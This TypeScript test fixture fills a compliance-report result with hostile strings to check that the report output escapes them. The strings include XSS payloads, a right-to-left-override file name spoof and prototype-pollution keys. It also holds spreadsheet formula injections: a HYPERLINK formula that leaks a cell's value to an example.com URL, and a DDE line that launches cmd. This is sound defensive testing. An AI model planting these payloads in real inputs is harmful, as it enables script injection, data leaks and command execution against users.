import type { Finding } from '../../src/core/result/finding.ts';
import type { ListedResult } from '../../src/core/result/result.ts';
import { sampleResult } from '../support/results/sample-result.ts';

/** Texts that try to inject markup, commands or control characters. */
export const hostileTexts: readonly string[] = [
  '</script><script>alert(1)</script>',
  '</style><script>alert(2)</script>',
  '<img src=x onerror=alert(3)>',
  '"><svg onload=alert(4)>',
  "' autofocus onfocus=alert(5) x='",
  '--><!--<script>alert(6)',
  '&lt;b&gt;&amp;&#x3c;script&#x3e;',
  ']]><![CDATA[',
  '{{constructor.constructor("alert(7)")()}}',
  'javascript:alert(8)',
  'invoice\u202Efdp.exe',
  '\u2067right\u2069 \u200Fto left \u05D0\u05D1\u05D2',
  'null\u0000byte \u0007bell \u001B[31mred',
  'line\nbreak\r\nand\ttab\u2028and separator',
  'half \uD83D surrogate \uDE00',
  'zero\u200Bwidth\uFEFF',
  'x'.repeat(65_536),
  '\u202E'.repeat(65_536),
  '=HYPERLINK("https://example.com/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\uFF1D1+1',
  '\uFF20SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  '"=1+1"',
  'a;=1+1;b',
  '__proto__',
  'constructor',
  '👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
];

/** A result with hostile text in every value that comes from the account. */
export function hostileResult(): ListedResult {
  const at = (index: number): string => hostileTexts[index % hostileTexts.length] ?? '';
  const change = (finding: Finding, index: number): Finding => ({
    ...finding,
    status: index % 3 === 0 ? 'FAIL' : finding.status === 'UNKNOWN' ? 'PASS' : finding.status,
    resource: {
      ...finding.resource,
      id: at(index),
      name: at(index),
      arn: at(index + 1),
      tags: JSON.parse(JSON.stringify({ team: at(index + 2) }).replace('"team"', JSON.stringify(at(index + 3)))) as Record<string, string>,
    },
    message: at(index),
    evidence: { text: at(index), list: [at(index + 1)], [at(index + 4)]: null },
    severityReason: at(index + 5),
    reclassified: at(index),
    ...(index % 3 === 0 && index % 2 === 0 ? { suppressed: { reason: at(index / 6), until: '2027-01-31' } } : {}),
  });
  const result = sampleResult({ findings: hostileTexts.length * 18, change: (finding, index) => withoutGap(change(finding, index)) });
  return {
    ...result,
    accounts: hostileTexts.map((text, index) => ({
      id: String(100_000_000_000 + index),
      name: text,
      state: 'partial',
      reason: text,
      resources: 1,
      counts: result.summary.counts,
      failures: result.summary.failures,
    })),
    changes: {
      since: { runId: at(0), finishedAt: '2026-11-14T00:00:00Z' },
      new: result.findings.slice(0, 20).map(({ id }) => id),
      firstJudged: [],
      resolved: result.findings.slice(0, hostileTexts.length).map(({ ruleId, severity, resource }, index) => ({
        id: at(index),
        ruleId,
        severity,
        resource,
        why: 'gone',
      })),
      unchanged: 0,
      newlyUnreadable: [],
      notCompared: 0,
    },
    run: { ...result.run, principalArn: at(0), id: at(1), version: at(2) },
    collectionErrors: hostileTexts.map((text) => ({
      kind: 'denied',
      action: text,
      message: text,
      types: ['AWS::S3::Bucket'],
      regions: ['eu-west-1'],
      findings: 1,
    })),
    attestations: hostileTexts.map((text) => ({
      service: 's3',
      responsibility: 'client-side-encryption',
      what: 'Objects encrypted by the client look like any other.',
      state: 'partial',
      statements: [
        {
          responsibility: 'client-side-encryption',
          resource: text,
          tags: { team: text },
          statement: text,
          by: text,
          on: '2026-01-01',
          until: '2027-01-31',
        },
      ],
    })),
    suppressions: hostileTexts.map((text) => ({
      rule: text,
      resource: text,
      reason: text,
      until: '2027-01-31',
      state: 'unused',
      findings: 0,
    })),
    uncoveredResources: [
      { region: 'eu-west-1', state: 'unreadable', collectionError: { kind: 'denied', action: 'config:Get', message: at(0) }, types: [] },
      { region: 'us-east-1', state: 'recorded', types: hostileTexts.map((type) => ({ type, category: null, count: 1, covered: false })) },
    ],
  };
}

function withoutGap({ collectionError: _, ...finding }: Finding): Finding {
  return finding;
}
